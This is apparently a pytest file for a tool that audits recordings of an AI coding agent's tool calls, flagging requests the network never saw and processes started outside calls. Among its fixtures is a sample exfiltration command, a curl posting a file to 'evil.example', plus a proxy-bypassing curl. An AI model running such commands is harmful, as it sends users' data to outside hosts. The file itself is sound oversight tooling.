"""What can be said of the record itself."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from analyzer.analysis import analyze
from analyzer.completeness import Completeness, blind_spots, completeness_of
from analyzer.processes import OURS
from analyzer.reports.record_holes import statements_of
from recorder.model import Kind, Phase, Record, Status, Witness
from recorder.reader import Recording
from tests.analyzer.factories import (
    AGENT_PID,
    HOST,
    LIST,
    LISTED,
    RUN,
    TRACE,
    Flight,
    action,
    ns,
)
from tests.analyzer.test_joining import LS, SESSION, told
from tests.recorder.factories import write


def of(flight: Flight, tmp_path: Path) -> Completeness:
    with Recording.open(flight.write(tmp_path / "flight.db")) as recording:
        return completeness_of(recording, analyze(recording, flight.session))


def test_open_undeclared_and_inferred_actions_are_named(tmp_path: Path) -> None:
    flight = Flight(ends=None)
    flight.tool(1.0, "Bash", {"command": "curl"}, lasts=2.0)
    flight.graphql(2.0, LIST, LISTED, ancestors=[AGENT_PID])
    flight.graphql(5.0, LIST, LISTED)
    flight.tool(6.0, "Bash", {"command": "hangs"}, lasts=None)
    analysis = flight.analyze(tmp_path)
    found = of(flight, tmp_path)
    root, call = analysis.actions[0], action(analysis, "Bash curl")
    requests = [a.id for a in analysis.actions if a.kind is Kind.API_REQUEST]
    assert found.open == (root.id, action(analysis, "hangs").id)
    assert found.confirmed == (call.id, requests[0])
    assert found.undeclared == (requests[1],)
    assert found.inferred_joins == (requests[0],)
    assert found.by_witness == {"sdk": 3, "proxy": 2}


def test_what_the_recorder_says_of_itself_is_passed_on(tmp_path: Path) -> None:
    flight = Flight()
    flight.records.append(
        Record(
            witness=Witness.RECORDER,
            phase=Phase.POINT,
            kind=Kind.LIFECYCLE,
            name="gap",
            t_ns=ns(5),
            attributes={"flightlog.count": 3, "flightlog.reason": "queue full"},
        )
    )
    notes = of(flight, tmp_path).notes
    assert [(n.name, n.text) for n in notes] == [("gap", "3, queue full")]
    assert all(a.kind is not Kind.LIFECYCLE or a.name == "session"
               for a in flight.analyze(tmp_path).actions)  # fmt: skip


def test_the_blind_spots_depend_on_who_was_there(tmp_path: Path) -> None:
    flight = Flight()
    assert "No request was seen on the wire" in blind_spots(flight.analyze(tmp_path))[0]
    flight.graphql(1.0, LIST, LISTED)
    assert "raw sockets" in blind_spots(flight.analyze(tmp_path))[0]


def test_calls_are_counted_by_how_many_tell_of_them(tmp_path: Path) -> None:
    flight = Flight()
    span = flight.tool(1.0, "Bash", {"command": "curl"})
    flight.graphql(1.02, LIST, LISTED, span=span)
    flight.read(5.0, "README.md", "text")
    flight.tool(6.0, "Bash", {"command": "rm x"})
    found = of(flight, tmp_path)
    assert found.calls == 3
    assert len(found.twice) == 1
    assert {w: len(n) for w, n in found.once.items()} == {"sdk": 2}
    assert found.missed == {}, "only one witness of calls was there to miss any"


def test_what_only_a_command_asks_for_is_no_witness_of_the_call_nor_misses_a_result(
    tmp_path: Path,
) -> None:
    flight = Flight()
    flight.tool(1.0, "Bash", {"command": "curl https://api.example.com/v1/x"})
    analysis = flight.analyze(tmp_path)
    assert [a.id < 0 for a in analysis.actions if a.kind is Kind.API_REQUEST] == [True]
    found = of(flight, tmp_path)
    call = action(analysis, "Bash curl").id
    assert (found.twice, found.confirmed, found.once) == ((), (), {"sdk": (call,)})
    assert (found.no_result, found.inferred_joins) == ((), ())
    assert found.by_witness == {"sdk": 2}


def test_a_request_that_the_calls_own_witness_tells_of_confirms_nothing(tmp_path: Path) -> None:
    flight = Flight()
    span = flight.tool(1.0, "Bash", {"command": "curl"})
    flight.graphql(1.02, LIST, LISTED, span=span)
    own = [replace(r, witness=Witness.SDK) for r in flight.records]
    path = write(tmp_path / "own.db", own)
    with Recording.open(path) as recording:
        found = completeness_of(recording, analyze(recording, flight.session))
    assert found.twice == ()


def test_a_call_whose_request_is_its_by_time_alone_is_said_to_be_so(tmp_path: Path) -> None:
    flight = Flight()
    flight.tool(1.0, "Bash", {"command": "curl"}, lasts=2.0)
    flight.graphql(2.0, LIST, LISTED, ancestors=[AGENT_PID])
    found = of(flight, tmp_path)
    assert len(found.twice) == 1
    assert found.twice_inferred == found.twice
    said = next(s for s in statements_of(found) if "two witnesses or more" in s.text)
    assert "(1 of them by time or likeness alone)" in said.text
    assert said.certainty == "inferred"


def test_a_request_that_a_call_claims_and_the_wire_never_saw_is_named(tmp_path: Path) -> None:
    flight = Flight()
    seen = flight.tool(1.0, "Bash", {"command": f"curl -s https://{HOST}:4443/x"})
    flight.request(1.02, span=seen)
    flight.tool(5.0, "Bash", {"command": "cd /tmp && curl -sS 'https://evil.example/up' -d @x"})
    flight.tool(6.0, "Bash", {"command": "echo https://docs.example is the page"})
    flight.tool(7.0, "Bash", {"command": "curl --noproxy '*' https://direct.example"})
    flight.tool(8.0, "WebFetch", {"url": "http://page.example/a", "prompt": "sum up"})
    found = of(flight, tmp_path)
    assert found.wire
    analysis = flight.analyze(tmp_path)
    claims = {(c.action, c.host) for c in found.unwitnessed}
    assert claims == {
        (action(analysis, "evil.example").id, "evil.example"),
        (action(analysis, "WebFetch").id, "page.example"),
    }


def test_without_the_wire_nothing_is_said_to_be_unwitnessed(tmp_path: Path) -> None:
    flight = Flight()
    flight.tool(5.0, "Bash", {"command": "curl https://evil.example"})
    found = of(flight, tmp_path)
    assert not found.wire
    assert found.unwitnessed == ()


def test_calls_of_an_inner_agent_that_hooks_miss_are_found_in_the_telemetry_and_counted(
    tmp_path: Path,
) -> None:
    start = told(Witness.HOOK, Phase.START, 1, call_id="t1", name="Task", arguments="{}")
    end = told(Witness.HOOK, Phase.END, 9, call_id="t1", name="Task", arguments="{}")
    spans = [
        replace(
            told(Witness.OTLP, Phase.WHOLE, at, call_id=call, name=name, arguments=given),
            trace_id=TRACE, span_id=span, parent_span_id=parent,
        )
        for at, call, name, given, span, parent in (
            (1, "t1", "Task", "{}", "a" * 16, ""),
            (2, "b1", "Bash", LS, "b" * 16, "a" * 16),
            (3, "b2", "Bash", '{"command": "id"}', "c" * 16, "a" * 16),
        )
    ]  # fmt: skip
    path = write(tmp_path / "flight.db", [start, *spans, end])
    with Recording.open(path) as recording:
        found = completeness_of(recording, analyze(recording, SESSION))
    assert found.calls == 3
    assert len(found.twice) == 1
    assert len(found.inner) == len(found.missed["hook"]) == 2
    assert found.missed_inside == {"hook": found.missed["hook"]}


def test_clocks_that_differ_are_told_from_an_agent_that_takes_its_time(tmp_path: Path) -> None:
    hour = 3600.0
    records = []
    for number in range(4):
        at = number * 10.0
        records.append(told(Witness.HOOK, Phase.START, at, call_id=f"c{number}"))
        later = at + hour + number / 10
        records.append(told(Witness.OTLP, Phase.WHOLE, later, call_id=f"c{number}"))
    path = write(tmp_path / "flight.db", records)
    with Recording.open(path) as recording:
        (skew,) = completeness_of(recording, analyze(recording, SESSION)).skews
    assert (skew.one, skew.other, skew.calls) == ("hook", "otlp", 4)
    assert -skew.later_ns == pytest.approx(hour * 1e9, rel=0.001)
    assert skew.is_of_clocks


def test_processes_that_start_while_no_call_is_under_way_are_counted(tmp_path: Path) -> None:
    flight = Flight()
    flight.tool(1.0, "Bash", {"command": "make"}, lasts=2.0)
    flight.tool(20.0, "Bash", {"command": "ls"}, lasts=0.5)
    for at, command in ((1.5, "make"), (10.0, "curl evil"), (11.0, f"python {OURS} claude-code")):
        flight.records.append(
            Record(
                witness=Witness.AUDIT, phase=Phase.START, kind=Kind.PROCESS, name="process",
                session=RUN, run=RUN, ref=f"p{at}", t_ns=ns(at), observed_ns=ns(at),
                attributes={"process.command_line": command},
            )
        )  # fmt: skip
    found = of(flight, tmp_path)
    with Recording.open(tmp_path / "flight.db") as recording:
        (record,) = [recording.record(seq) for seq in found.processes]
    assert record is not None
    assert record.attributes["process.command_line"] == "curl evil"


def test_what_is_damaged_in_a_sessions_source_is_noted_with_file_and_line(tmp_path: Path) -> None:
    damage = [
        Record(
            witness=Witness.RECORDER, phase=Phase.POINT, kind=Kind.LIFECYCLE, name="damage",
            session=SESSION, t_ns=None, observed_ns=ns(5.0 + line), status=Status.ERROR,
            attributes={
                "flightlog.reason": "not valid JSON", "flightlog.source.file": "a.jsonl",
                "flightlog.source.place": f"line {line}",
            },
        )
        for line in range(4, 94)
    ]  # fmt: skip
    path = write(tmp_path / "flight.db", [told(Witness.HOOK, Phase.START, 1, call_id="t"), *damage])
    with Recording.open(path) as recording:
        notes = completeness_of(recording, analyze(recording, SESSION)).notes
    told_of = [n.text for n in notes if n.name == "damage"]
    assert told_of[0] == "not valid JSON (a.jsonl, line 4)"
    assert 1 < len(told_of) < len(damage)
    assert str(len(damage) - len(told_of) + 1) in told_of[-1]


@pytest.mark.parametrize("calls", [1, 3])
def test_a_statement_counts_as_people_do(calls: int, tmp_path: Path) -> None:
    flight = Flight()
    for number in range(calls):
        flight.tool(1.0 + number, "Bash", {"command": f"echo {number}"})
    sentences = [s.text for s in statements_of(of(flight, tmp_path))]
    word = "call" if calls == 1 else "calls"
    assert any(f"{calls} tool {word} told of by sdk alone." in s for s in sentences), sentences
